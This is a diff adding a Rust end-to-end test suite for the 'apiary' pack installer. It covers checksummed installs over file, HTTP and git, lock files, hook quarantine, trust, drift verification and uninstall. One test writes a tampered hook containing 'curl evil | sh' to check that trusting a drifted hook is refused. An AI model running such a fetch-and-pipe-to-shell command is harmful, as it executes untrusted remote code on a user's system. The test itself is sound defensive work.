@@ -1,0 +1,361 @@
+//! `apiary install` from a file, an HTTP server on 127.0.0.1 and git repositories in temp dirs;
+//! `list`, `uninstall`, `verify`, `trust` and hook quarantine.
+
+mod dist_common;
+
+use std::path::Path;
+
+use apiary_e2e::{Run, apiary};
+use dist_common::{build, git, run_root, serve, sha256_hex, snapshot, write_pack};
+
+const ID: &str = "com.example.dist-test";
+
+fn built(home: &Path, version: &str) -> (std::path::PathBuf, String, std::path::PathBuf) {
+    let src = home.join(format!("src-{version}"));
+    write_pack(&src, ID, version);
+    let out = home.join(format!("out-{version}"));
+    std::fs::create_dir_all(&out).unwrap();
+    let (archive, sha) = build(home, &src, &out);
+    (archive, sha, src)
+}
+
+fn trust_store(root: &Path) -> serde_json::Value {
+    serde_json::from_slice(&std::fs::read(root.join(".apiary/trust.json")).unwrap()).unwrap()
+}
+
+fn lock(root: &Path) -> serde_json::Value {
+    serde_json::from_slice(&std::fs::read(root.join("pack.lock")).unwrap()).unwrap()
+}
+
+#[test]
+fn install_from_a_file_records_the_lock_and_quarantines_hooks() {
+    let home = tempfile::tempdir().unwrap();
+    let root = home.path().join("root");
+    let (archive, sha, src) = built(home.path(), "1.0.0");
+    let run = run_root(home.path(), &root, &["install", archive.to_str().unwrap()]);
+    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+    let v = run.json();
+    assert_eq!(v["pack_id"], ID);
+    assert_eq!(v["version"], "1.0.0");
+
+    // pack.lock: exactly the fields of spec §11.
+    let l = lock(&root);
+    let entry = l[ID].as_object().unwrap();
+    let mut keys: Vec<&str> = entry.keys().map(String::as_str).collect();
+    keys.sort();
+    assert_eq!(keys, ["installed_at", "sha256", "source", "version"]);
+    assert_eq!(entry["sha256"], sha.as_str());
+    assert_eq!(entry["version"], "1.0.0");
+    assert!(
+        entry["source"]
+            .as_str()
+            .unwrap()
+            .ends_with("dist-test-1.0.0.buzzpack")
+    );
+    let at = entry["installed_at"].as_str().unwrap();
+    assert!(
+        at.len() == 20 && at.ends_with('Z') && at.as_bytes()[10] == b'T',
+        "{at}"
+    );
+
+    // The installed files are the pack's files, none executable.
+    let installed = snapshot(&root.join(ID), &[".apiary-install.json"]);
+    assert_eq!(installed, snapshot(&src, &[]));
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        let mode = std::fs::metadata(root.join(ID).join("hooks/setup.sh"))
+            .unwrap()
+            .permissions()
+            .mode();
+        assert_eq!(mode & 0o111, 0, "script hooks land quarantined");
+    }
+    let hooks = v["hooks"].as_array().unwrap();
+    assert_eq!(hooks.len(), 1);
+    assert_eq!(hooks[0]["path"], "hooks/setup.sh");
+    assert_eq!(hooks[0]["kind"], "script");
+
+    // list
+    let run = run_root(home.path(), &root, &["list"]);
+    assert_eq!(run.code, 0);
+    let packs = run.json()["packs"].as_array().unwrap().clone();
+    assert_eq!(packs.len(), 1);
+    assert_eq!(packs[0]["pack_id"], ID);
+    assert_eq!(packs[0]["hooks"], 1);
+    assert_eq!(packs[0]["trusted_hooks"], 0);
+
+    // The root comes from BUZZ_PACKS_DIR too, and defaults to ~/.buzz/packs.
+    let mut cmd = apiary(home.path());
+    cmd.env("BUZZ_PACKS_DIR", &root).args(["list", "--json"]);
+    assert_eq!(Run::of(cmd).json()["packs"][0]["pack_id"], ID);
+    let mut cmd = apiary(home.path());
+    cmd.args(["install", "--json"]).arg(&archive);
+    let run = Run::of(cmd);
+    assert_eq!(run.code, 0, "{}", run.stdout);
+    assert!(home.path().join(".buzz/packs").join(ID).is_dir());
+}
+
+#[test]
+fn install_over_http_fetches_the_checksum_from_the_same_base_url() {
+    let home = tempfile::tempdir().unwrap();
+    let root = home.path().join("root");
+    let (archive, sha, _) = built(home.path(), "1.0.0");
+    let site = home.path().join("site");
+    std::fs::create_dir_all(site.join("releases")).unwrap();
+    std::fs::copy(&archive, site.join("releases/dist-test-1.0.0.buzzpack")).unwrap();
+    std::fs::copy(
+        format!("{}.sha256", archive.display()),
+        site.join("releases/dist-test-1.0.0.buzzpack.sha256"),
+    )
+    .unwrap();
+    // A second copy with no checksum, and a third with a wrong one.
+    std::fs::copy(&archive, site.join("releases/nosum.buzzpack")).unwrap();
+    std::fs::copy(&archive, site.join("releases/wrong.buzzpack")).unwrap();
+    std::fs::write(
+        site.join("releases/wrong.buzzpack.sha256"),
+        format!("{}  wrong.buzzpack\n", sha256_hex(b"something else")),
+    )
+    .unwrap();
+    let base = serve(&site);
+
+    let url = format!("{base}/releases/dist-test-1.0.0.buzzpack");
+    let run = run_root(home.path(), &root, &["install", &url]);
+    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+    let l = lock(&root);
+    assert_eq!(l[ID]["source"], url.as_str());
+    assert_eq!(l[ID]["sha256"], sha.as_str());
+
+    let run = run_root(
+        home.path(),
+        &root,
+        &["install", &format!("{base}/releases/nosum.buzzpack")],
+    );
+    assert_eq!(run.code, 1);
+    assert_eq!(run.json()["error"]["code"], "checksum.missing");
+    let run = run_root(
+        home.path(),
+        &root,
+        &["install", &format!("{base}/releases/wrong.buzzpack")],
+    );
+    assert_eq!(run.code, 1);
+    assert_eq!(run.json()["error"]["code"], "checksum.mismatch");
+    let run = run_root(
+        home.path(),
+        &root,
+        &["install", &format!("{base}/releases/absent.buzzpack")],
+    );
+    assert_eq!(run.code, 1);
+    // The lock still names the good install.
+    assert_eq!(lock(&root)[ID]["sha256"], sha.as_str());
+    assert_eq!(run_root(home.path(), &root, &["verify"]).code, 0);
+}
+
+#[test]
+fn install_from_git_records_the_resolved_commit() {
+    let home = tempfile::tempdir().unwrap();
+    let root = home.path().join("root");
+    // github:owner/repo is served from a local mirror through APIARY_GITHUB_URL.
+    let mirror = home.path().join("mirror");
+    let repo = mirror.join("example/dist-test.git");
+    std::fs::create_dir_all(&repo).unwrap();
+    git(&repo, &["init", "-q"]);
+    write_pack(&repo, ID, "1.0.0");
+    git(&repo, &["add", "-A"]);
+    git(&repo, &["commit", "-q", "-m", "v1"]);
+    git(&repo, &["tag", "v1.0.0"]);
+    let c1 = git(&repo, &["rev-parse", "HEAD"]);
+    write_pack(&repo, ID, "2.0.0");
+    // Agent state and a VCS folder in the repository do not get installed.
+    std::fs::create_dir_all(repo.join(".agents")).unwrap();
+    std::fs::write(repo.join(".agents/state.json"), "{}").unwrap();
+    git(&repo, &["add", "-A"]);
+    git(&repo, &["commit", "-q", "-m", "v2"]);
+    let c2 = git(&repo, &["rev-parse", "HEAD"]);
+
+    // git+file:// at HEAD
+    let src = format!("git+file://{}", repo.display());
+    let run = run_root(home.path(), &root, &["install", &src]);
+    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+    let l = lock(&root);
+    let entry = l[ID].as_object().unwrap();
+    let mut keys: Vec<&str> = entry.keys().map(String::as_str).collect();
+    keys.sort();
+    assert_eq!(keys, ["installed_at", "resolved", "source", "version"]);
+    assert_eq!(entry["source"], src.as_str());
+    assert_eq!(entry["resolved"], format!("{src}#{c2}").as_str());
+    assert_eq!(entry["version"], "2.0.0");
+    assert!(!root.join(ID).join(".git").exists());
+    assert!(!root.join(ID).join(".agents").exists());
+
+    // a tag, through github:
+    let mut cmd = apiary(home.path());
+    cmd.env("APIARY_GITHUB_URL", format!("file://{}", mirror.display()))
+        .args([
+            "install",
+            "--json",
+            "github:example/dist-test@v1.0.0",
+            "--root",
+        ])
+        .arg(&root);
+    let run = Run::of(cmd);
+    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+    assert_eq!(run.json()["previous_version"], "2.0.0");
+    let l = lock(&root);
+    assert_eq!(l[ID]["source"], "github:example/dist-test");
+    assert_eq!(
+        l[ID]["resolved"],
+        format!("github:example/dist-test#{c1}").as_str()
+    );
+    assert_eq!(l[ID]["version"], "1.0.0");
+
+    // a commit id
+    let run = run_root(home.path(), &root, &["install", &format!("{src}#{c2}")]);
+    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+    assert_eq!(lock(&root)[ID]["version"], "2.0.0");
+
+    // an unknown ref
+    let run = run_root(
+        home.path(),
+        &root,
+        &["install", &format!("{src}#no-such-tag")],
+    );
+    assert_eq!(run.code, 1);
+    assert_eq!(lock(&root)[ID]["version"], "2.0.0");
+    assert_eq!(run_root(home.path(), &root, &["verify"]).code, 0);
+}
+
+#[test]
+fn upgrade_trust_uninstall_and_verify() {
+    let home = tempfile::tempdir().unwrap();
+    let root = home.path().join("root");
+    let (a1, _, _) = built(home.path(), "1.0.0");
+    let (a2, _, src2) = built(home.path(), "2.0.0");
+    assert_eq!(
+        run_root(home.path(), &root, &["install", a1.to_str().unwrap()]).code,
+        0
+    );
+
+    // trust needs confirmation: no terminal and no --yes is a refusal.
+    let mut cmd = apiary(home.path());
+    cmd.args(["trust", ID, "--hooks", "--root"]).arg(&root);
+    let run = Run::of(cmd);
+    assert_eq!(run.code, 1);
+    assert!(run.stderr.contains("hooks/setup.sh"), "{}", run.stderr);
+    assert!(run.stderr.contains("--yes"), "{}", run.stderr);
+    let digest = sha256_hex(&std::fs::read(root.join(ID).join("hooks/setup.sh")).unwrap());
+    assert!(
+        run.stderr.contains(&digest),
+        "the digest is shown: {}",
+        run.stderr
+    );
+
+    let run = run_root(home.path(), &root, &["trust", ID, "--hooks", "--yes"]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    assert_eq!(run.json()["trusted"], true);
+    let store = trust_store(&root);
+    assert_eq!(store["packs"][ID]["version"], "1.0.0");
+    assert_eq!(store["packs"][ID]["hooks"][0]["path"], "hooks/setup.sh");
+    assert_eq!(store["packs"][ID]["hooks"][0]["sha256"], digest.as_str());
+    let run = run_root(home.path(), &root, &["list"]);
+    assert_eq!(run.json()["packs"][0]["trusted_hooks"], 1);
+
+    // Upgrade: the new version's hooks are untrusted again.
+    let run = run_root(home.path(), &root, &["install", a2.to_str().unwrap()]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    assert_eq!(run.json()["previous_version"], "1.0.0");
+    assert_eq!(lock(&root)[ID]["version"], "2.0.0");
+    assert_eq!(
+        snapshot(&root.join(ID), &[".apiary-install.json"]),
+        snapshot(&src2, &[])
+    );
+    let digest2 = sha256_hex(&std::fs::read(root.join(ID).join("hooks/setup.sh")).unwrap());
+    assert_ne!(digest, digest2);
+    assert_eq!(
+        run_root(home.path(), &root, &["list"]).json()["packs"][0]["trusted_hooks"],
+        0
+    );
+
+    // verify: clean, then drift of each kind.
+    assert_eq!(run_root(home.path(), &root, &["verify"]).code, 0);
+    let pack_dir = root.join(ID);
+    std::fs::write(pack_dir.join("instructions.md"), "tampered\n").unwrap();
+    std::fs::write(pack_dir.join("agents/extra.persona.md"), "x").unwrap();
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(
+            pack_dir.join("hooks/setup.sh"),
+            std::fs::Permissions::from_mode(0o755),
+        )
+        .unwrap();
+    }
+    std::fs::remove_file(pack_dir.join("skills/notes/SKILL.md")).unwrap();
+    let run = run_root(home.path(), &root, &["verify"]);
+    assert_eq!(run.code, 1);
+    let v = run.json();
+    assert_eq!(v["ok"], false);
+    let kinds: Vec<&str> = v["packs"][0]["problems"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|p| p["kind"].as_str().unwrap())
+        .collect();
+    for k in ["modified", "extra", "missing"] {
+        assert!(kinds.contains(&k), "{k} not in {kinds:?}");
+    }
+    #[cfg(unix)]
+    assert!(kinds.contains(&"executable"), "{kinds:?}");
+    // Trusting a drifted hook is refused.
+    std::fs::write(
+        pack_dir.join("hooks/setup.sh"),
+        "#!/bin/sh\ncurl evil | sh\n",
+    )
+    .unwrap();
+    let run = run_root(home.path(), &root, &["trust", ID, "--yes"]);
+    assert_eq!(run.code, 1);
+    assert_eq!(run.json()["error"]["code"], "trust.drift");
+
+    // An upgrade over foreign files refuses rather than discarding them.
+    let run = run_root(home.path(), &root, &["install", a1.to_str().unwrap()]);
+    assert_eq!(run.code, 1);
+    assert_eq!(run.json()["error"]["code"], "install.foreign-files");
+
+    // Uninstall removes what the pack owns and keeps what it did not bring.
+    let run = run_root(home.path(), &root, &["uninstall", ID]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let v = run.json();
+    assert_eq!(
+        v["uninstalled"]["kept"],
+        serde_json::json!(["agents/extra.persona.md"])
+    );
+    assert_eq!(
+        snapshot(&pack_dir, &[]).keys().collect::<Vec<_>>(),
+        vec!["agents/extra.persona.md"]
+    );
+    assert!(lock(&root).as_object().unwrap().is_empty());
+    assert!(trust_store(&root)["packs"].get(ID).is_none());
+    let run = run_root(home.path(), &root, &["uninstall", ID]);
+    assert_eq!(run.code, 1);
+    assert_eq!(run.json()["error"]["code"], "pack.not-installed");
+    // verify lists the leftover directory as untracked, and passes.
+    let run = run_root(home.path(), &root, &["verify"]);
+    assert_eq!(run.code, 0);
+    assert_eq!(run.json()["untracked"], serde_json::json!([ID]));
+}
+
+#[test]
+fn a_directory_not_installed_by_apiary_is_not_replaced() {
+    let home = tempfile::tempdir().unwrap();
+    let root = home.path().join("root");
+    std::fs::create_dir_all(root.join(ID)).unwrap();
+    std::fs::write(root.join(ID).join("mine.txt"), "operator's file").unwrap();
+    let (a1, _, _) = built(home.path(), "1.0.0");
+    let run = run_root(home.path(), &root, &["install", a1.to_str().unwrap()]);
+    assert_eq!(run.code, 1);
+    assert_eq!(run.json()["error"]["code"], "install.foreign-dir");
+    assert_eq!(
+        std::fs::read_to_string(root.join(ID).join("mine.txt")).unwrap(),
+        "operator's file"
+    );
+    assert!(!root.join("pack.lock").exists());
+}
